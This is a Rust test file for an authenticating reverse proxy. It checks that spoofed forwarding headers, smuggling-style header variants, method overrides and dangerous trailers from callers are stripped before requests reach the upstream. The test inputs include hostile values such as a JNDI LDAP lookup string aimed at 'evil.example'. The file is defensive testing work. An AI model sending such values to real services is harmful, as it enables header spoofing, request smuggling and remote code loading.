//! Fields that want to be more than they are: every one is sent in both protocols, and the upstream's view is checked.

use http::Method;

use super::recorded;

/// A case: fields of the request, what the upstream must then see of a field, each line with its value.
type Case = (&'static [(&'static str, &'static str)], &'static str, &'static [&'static str]);

/// What `connection` names over HTTP/2 is malformed, so these are sent over HTTP/1.1 alone.
const NAMED: &[Case] = &[
    // The token is there in any case: the upstream that writes down what it sees takes no request without one.
    (&[("connection", "authorization")], "connection", &[]),
    (&[("connection", "close, authorization")], "connection", &[]),
    (&[("connection", "host")], "connection", &[]),
    (&[("connection", "via")], "connection", &[]),
    (&[("connection", "content-length")], "content-length", &["5"]),
    (&[("connection", "transfer-encoding")], "content-length", &["5"]),
    (&[("connection", "content-type"), ("content-type", "a/b")], "content-type", &[]),
    (&[("connection", "x-named"), ("x-named", "y")], "x-named", &[]),
    (&[("connection", "X-NAMED"), ("x-named", "y")], "x-named", &[]),
    (&[("connection", "x-one"), ("connection", "x-named"), ("x-named", "y")], "x-named", &[]),
    (&[("connection", ",, x-named ,"), ("x-named", "y")], "x-named", &[]),
    (&[("connection", "x-named;q=1"), ("x-named", "y")], "x-named", &["y"]),
    (&[("connection", "\"x-named\""), ("x-named", "y")], "x-named", &["y"]),
    (&[("connection", "cookie"), ("cookie", "a=b")], "cookie", &[]),
    (&[("connection", "te"), ("te", "trailers")], "te", &["trailers"]),
    (&[("keep-alive", "timeout=1")], "keep-alive", &[]),
    (&[("proxy-connection", "keep-alive")], "proxy-connection", &[]),
    (&[("upgrade", "h2c")], "upgrade", &[]),
    (&[("te", "gzip")], "te", &[]),
    (&[("te", "gzip, trailers;q=0.5, trailers")], "te", &["trailers"]),
];

const EITHER: &[Case] = &[
    (&[("authorization", "Bearer mine")], "x", &[]),
    (&[("authorization", "")], "x", &[]),
    (&[("authorization", "Basic YTpi"), ("authorization", "Bearer mine")], "x", &[]),
    (&[("proxy-authorization", "Basic YTpi")], "proxy-authorization", &[]),
    (&[("proxy_authorization", "Basic YTpi")], "proxy_authorization", &[]),
    (&[("proxy-authenticate", "Basic")], "proxy-authenticate", &[]),
    (&[("proxy_authenticate", "Basic")], "proxy_authenticate", &[]),
    (&[("authorization_", "Bearer mine")], "authorization_", &["Bearer mine"]),
    (&[("x-forwarded-for", "127.0.0.1")], "x-forwarded-for", &[]),
    (&[("x-forwarded-host", "evil.example")], "x-forwarded-host", &[]),
    (&[("x-forwarded-proto", "https"), ("x-forwarded-proto", "http")], "x-forwarded-proto", &[]),
    (&[("x-forwarded-prefix", "/evil")], "x-forwarded-prefix", &[]),
    (&[("x_forwarded_for", "127.0.0.1")], "x_forwarded_for", &[]),
    (&[("x-forwarded_host", "evil.example")], "x-forwarded_host", &[]),
    (&[("forwarded", "for=127.0.0.1")], "forwarded", &[]),
    (&[("x-real-ip", "127.0.0.1")], "x-real-ip", &[]),
    (&[("x_real_ip", "127.0.0.1")], "x_real_ip", &[]),
    (&[("x-original-url", "/evil")], "x-original-url", &[]),
    (&[("x-rewrite-url", "/evil")], "x-rewrite-url", &[]),
    (&[("x-http-method-override", "DELETE")], "x-http-method-override", &[]),
    (&[("x_method_override", "DELETE")], "x_method_override", &[]),
    (&[("content_length", "1")], "content_length", &[]),
    (&[("transfer_encoding", "chunked")], "transfer_encoding", &[]),
    (&[("content_type", "a/b")], "content_type", &[]),
    (&[("via", "1.1 a"), ("via", "1.1 b")], "via", &["1.1 a", "1.1 b", "1.1 camunda-auth-proxy"]),
    (&[("via", "1.1 camunda-auth-proxy, 1.1 camunda-auth-proxy")], "x", &[]),
    (&[("cookie", "a=b"), ("cookie", "c=d")], "cookie", &["a=b; c=d"]),
    (&[("trailer", "authorization")], "x", &[]),
    (&[("max-forwards", "0")], "max-forwards", &["0"]),
    (&[("traceparent", "00-1-1-00")], "traceparent", &["00-1-1-00"]),
    (&[("x", "a"), ("x", "b"), ("x", "a")], "x", &["a", "b", "a"]),
    (&[("x", "${jndi:ldap://evil.example/a}")], "x", &["${jndi:ldap://evil.example/a}"]),
    (&[("accept-encoding", "gzip")], "accept-encoding", &["gzip"]),
];

#[tokio::test]
async fn no_field_of_a_caller_takes_the_place_of_ours_or_takes_it_away() {
    let (world, upstream) = recorded().await;
    let mut wrong = Vec::new();
    for version in [1, 2] {
        let both = if version == 1 { NAMED } else { &[] };
        for (fields, name, expected) in both.iter().chain(EITHER) {
            let mut caller = if version == 1 { world.http1().await } else { world.http2().await };
            let answer = caller.send(Method::POST, "/v2/x", fields, "hello").await;
            let seen = upstream.seen();
            let found = seen.first().map(|seen| seen.field(name));
            let good = answer.as_ref().is_ok_and(|answer| answer.status == 200)
                && seen.len() == 1
                && seen[0].body == b"hello"
                && found.as_deref() == Some(expected);
            if !good {
                wrong.push(format!("HTTP/{version} {fields:?}: {answer:?}, and the upstream saw {seen:?}"));
            }
            if let Err(fault) = upstream.is_content() {
                wrong.push(format!("HTTP/{version} {fields:?}: {fault}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test]
async fn a_request_that_went_round_five_times_is_a_loop() {
    let (world, upstream) = recorded().await;
    let ours = "1.1 camunda-auth-proxy";
    let five = [
        ("via", "1.1 camunda-auth-proxy, 1.1 x, 1.1 camunda-auth-proxy"),
        ("via", ours),
        ("via", ours),
        ("via", ours),
    ];
    let answer = world.http1().await.send(Method::GET, "/v2/x", &five, "").await.expect("an answer");
    assert_eq!((answer.status.as_u16(), &*answer.reason()), (508, "loop_detected"));
    assert!(upstream.seen().is_empty());
}

#[tokio::test]
async fn trailers_of_a_request_that_would_frame_or_prove_something_do_not_go_on() {
    let (world, upstream) = recorded().await;
    let gone = [
        ("authorization", "Bearer mine"),
        ("host", "evil.example"),
        ("content-length", "9"),
        ("content_length", "9"),
        ("transfer-encoding", "chunked"),
        ("transfer_encoding", "chunked"),
        ("content-type", "a/b"),
        ("proxy_authorization", "Basic YTpi"),
        ("x-forwarded-for", "1"),
        ("x_forwarded_for", "1"),
        ("x_real-ip", "1"),
        ("forwarded", "for=1"),
        ("cookie", "a=b"),
        ("via", "1.1 x"),
    ];
    let names: Vec<&str> = gone.iter().map(|(name, _)| *name).collect();
    let lines: String = gone.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
    let head = format!(
        "transfer-encoding: chunked\r\nconnection: close\r\ntrailer: x-kept, {}\r\nte: trailers\r\n",
        names.join(", ")
    );
    let bytes = super::post(head, format!("5\r\nhello\r\n0\r\n{lines}x-kept: y\r\n\r\n"));
    let answer = crate::common::caller::raw(world.proxy, bytes).await;
    assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
    let seen = upstream.seen();
    assert_eq!((&*seen[0].body, &*seen[0].trailers), (&b"hello"[..], "x-kept: y\n"));
}
